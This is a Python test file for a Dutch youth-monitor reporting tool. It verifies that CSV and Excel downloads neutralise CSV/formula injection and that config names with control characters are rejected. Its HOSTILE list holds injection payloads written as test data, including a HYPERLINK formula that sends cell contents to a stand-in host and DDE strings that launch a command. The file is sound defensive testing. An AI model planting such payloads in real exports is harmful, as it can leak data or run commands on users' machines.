"""Every download holds data, never a formula: names that begin like a formula are written as
text (a leading apostrophe in CSV, a string cell in Excel), numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from jeugdmonitor.definitions import config
from jeugdmonitor.report import accountability, downloads, formatting, local, subject
from jeugdmonitor.report.inputs import STATUS_LEGEND

from ..report.helpers import _inputs, _row

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", '=DDE("cmd";"/C calc";"!A0")']


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _assert_no_formula_in_csv(path: Path) -> None:
    for row in _csv_cells(path):
        for cell in row:
            assert not downloads.is_formula_like(cell), f"{path.name}: cell {cell!r} would run as a formula"


def _assert_no_formula_in_workbook(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), f"{path.name}: formula in {name}"
    for row in openpyxl.load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{path.name} {cell.coordinate}: {cell.value!r} is a formula"


@pytest.mark.parametrize("text", [*HOSTILE, "Delft", "-12", "-1,5", "'al een apostrof"])
def test_neutralise_follows_owasp(text):
    out = downloads.neutralise(text)
    if text.startswith(downloads.FORMULA_STARTS) and text not in ("-12", "-1,5"):
        assert out == "'" + text
    else:
        assert out == text
    assert downloads.neutralise(-1.5) == -1.5 and downloads.neutralise(None) is None


@pytest.fixture
def hostile_report(cfg, monkeypatch):
    """A report whose municipality, region and indicator names begin like formulas, with
    negative figures (a change in percent) that must stay numbers."""
    name, region_name = HOSTILE[0], HOSTILE[1]
    kpi_id = cfg.local_kpis[0]
    hostile_cfg = dataclasses.replace(cfg, kpis={**cfg.kpis, kpi_id: dataclasses.replace(cfg.kpis[kpi_id], name=HOSTILE[3])})
    rows = []
    for kpi in {kpi_id, *cfg.report_kpis}:
        for area in ("GM0503", "JZ24", "NL01"):
            rows += [_row(area, 2022, 6.0, kpi=kpi), _row(area, 2023, -1234.5, kpi=kpi, status="nader voorlopig")]
    inputs = _inputs(hostile_cfg, rows)
    inputs.areas.loc[inputs.areas["gebied_code"] == "GM0503", "naam"] = name
    inputs.areas.loc[inputs.areas["gebied_code"] == "JZ24", "naam"] = region_name
    return subject.Report(inputs, "GM0503", name, "JZ24", region_name)


def test_every_download_reads_back_as_data(hostile_report, tmp_path):
    written = [*local.save_local_table(hostile_report, tmp_path), local.save_figures(hostile_report, tmp_path),
               accountability.save_overview(hostile_report.inputs, tmp_path)]
    assert sorted(p.name for p in written) == sorted(["GM0503_lokale_paragraaf.csv", "GM0503_lokale_paragraaf.xlsx",
                                                      "GM0503_cijfers.csv", "overzicht_2023.csv"])
    for path in written:
        if path.suffix == ".csv":
            _assert_no_formula_in_csv(path)
        else:
            _assert_no_formula_in_workbook(path)
    local_cells = _csv_cells(tmp_path / "GM0503_lokale_paragraaf.csv")
    assert f"'{HOSTILE[0]} 2023" in local_cells[0] and local_cells[1][0] == "'" + HOSTILE[3]
    overview = _csv_cells(tmp_path / "overzicht_2023.csv")
    header = overview[0]
    names = {row[header.index("naam")] for row in overview[1:]}
    assert {"'" + HOSTILE[0], "'" + HOSTILE[1]} <= names
    assert {row[header.index("waarde")] for row in overview[1:]} == {"-1234,5"}, "negative numbers stay numbers"


def test_the_workbook_holds_numbers_with_their_status_beside_them(hostile_report, tmp_path):
    local.save_local_table(hostile_report, tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "GM0503_lokale_paragraaf.xlsx").active
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["Indicator", "Eenheid"] and header[2] == f"{HOSTILE[0]} 2022"
    assert header[3] == f"{HOSTILE[0]} 2022 status" and sheet.cell(1, 3).data_type == "s"
    first = sheet[2]
    assert first[0].value == HOSTILE[3] and first[0].data_type == "s" and first[0].quotePrefix
    kpi = hostile_report.inputs.cfg.kpis[hostile_report.inputs.cfg.local_kpis[0]]
    assert first[2].value == 6.0 and first[3].value in ("", None)  # 2022: definitief, no mark
    assert first[4].value == -1234.5 and first[5].value == "**"  # 2023: nader voorlopig
    assert first[4].number_format == downloads.excel_number_format(kpi.decimals)
    # the page's text is the number in Dutch format with its mark: the same figure, two forms
    page_cell = _csv_cells(tmp_path / "GM0503_lokale_paragraaf.csv")[1][3]
    assert page_cell == formatting.number(first[4].value, kpi.decimals) + first[5].value
    notes = [row[0] for row in sheet.iter_rows(min_row=len(hostile_report.inputs.cfg.local_kpis) + 2, values_only=True)
             if row[0]]
    assert notes[0] == STATUS_LEGEND and any("getallen" in n for n in notes)
    assert any("Fictieve voorbeelddata" in n for n in notes)


@pytest.mark.parametrize("bad", ["Del\tft", "Delft\r", "Del\x1bft", "Delft\n", "Del\x00ft"])
def test_config_refuses_a_name_with_a_control_character(project, bad):
    path = project / "config" / "gemeenten.yaml"
    text = path.read_text(encoding="utf-8")
    assert "naam: Delft" in text
    path.write_text(text.replace("naam: Delft", f"naam: {bad!r}".replace("'", '"'), 1), encoding="utf-8")
    config.load.cache_clear()
    with pytest.raises(config.ConfigError, match=r"gemeenten\.yaml.*naam.*stuurteken"):
        config.load()


def test_overview_text_columns_only_are_touched():
    frame = pd.DataFrame({"naam": ["=1+1", "Delft"], "waarde": [-1.5, 2.0]})
    out = downloads.neutralised(frame)
    assert out["naam"].tolist() == ["'=1+1", "Delft"] and out["waarde"].tolist() == [-1.5, 2.0]
